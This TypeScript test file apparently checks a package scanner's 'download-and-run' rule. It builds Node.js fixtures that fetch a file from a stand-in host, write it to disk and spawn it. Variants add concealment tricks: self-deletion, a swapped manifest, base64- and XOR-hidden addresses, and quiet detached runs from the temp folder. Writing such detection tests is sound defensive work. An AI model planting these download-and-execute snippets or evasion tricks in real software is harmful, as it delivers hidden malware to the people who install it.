import { describe, expect, it } from 'vitest';
import { verdictsOf } from '../testing/shapesIn.ts';

const verdicts = (file: string, text: string): string[] =>
  verdictsOf({ [file]: text }).filter((one) => one.endsWith('download-and-run'));

/** Fetches a file and starts it; the parts in which downloads differ are given. */
function script({ address = "'https://example.invalid/x'", path = 'where', run = 'cp.spawn(p)', more = '' }): string {
  return `const fs = require('fs'), os = require('os'), https = require('https'), cp = require('child_process');
exports.get = (where) => {
  const p = ${path};
  https.get(${address}, (res) => {
    res.pipe(fs.createWriteStream(p));
    ${run};
    ${more}
  });
};`;
}

describe('a download of JavaScript that is run', () => {
  it.each([
    ['removes its own file', { more: 'fs.unlinkSync(__filename);' }],
    ['removes the module that it is', { more: 'fs.rmSync(require("url").fileURLToPath(import.meta.url));' }],
    ['puts another manifest in place of its own', { more: "fs.renameSync('other.json', 'package.json');" }],
    ['decodes its address', { address: "Buffer.from('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQveA==', 'base64').toString()" }],
    ['computes its address', { address: "[52, 40].map((n) => String.fromCharCode(n ^ 92)).join('')" }],
    [
      'is quiet, runs on by itself and lies in a folder for temporary files',
      { path: "os.tmpdir() + '/x'", run: "cp.spawn(p, [], { stdio: 'ignore' }).unref()" },
    ],
  ])('is held where it %s', (_, parts) => {
    expect(verdicts('a.js', script(parts))).toEqual(['hold download-and-run']);
  });

  it.each([
    ['as installers do it', {}],
    ['in a folder for temporary files', { path: "os.tmpdir() + '/x'" }],
    ['quietly and by itself', { run: "cp.spawn(p, [], { stdio: 'ignore' }).unref()" }],
    ['and another file is removed', { more: 'fs.unlinkSync(p);' }],
    ['from an address that a manifest names', { address: "require('./package.json').binary.host" }],
    ['from an address with a decoded part', { address: "'https://example.invalid/' + decodeURIComponent(where)" }],
  ])('%s is to be read', (_, parts) => {
    expect(verdicts('a.js', script(parts))).toEqual(['review download-and-run']);
  });

  it('is a note in the tests of a package', () => {
    expect(verdicts('test/a.js', script({ more: 'fs.unlinkSync(__filename);' }))).toEqual(['note download-and-run']);
  });
});
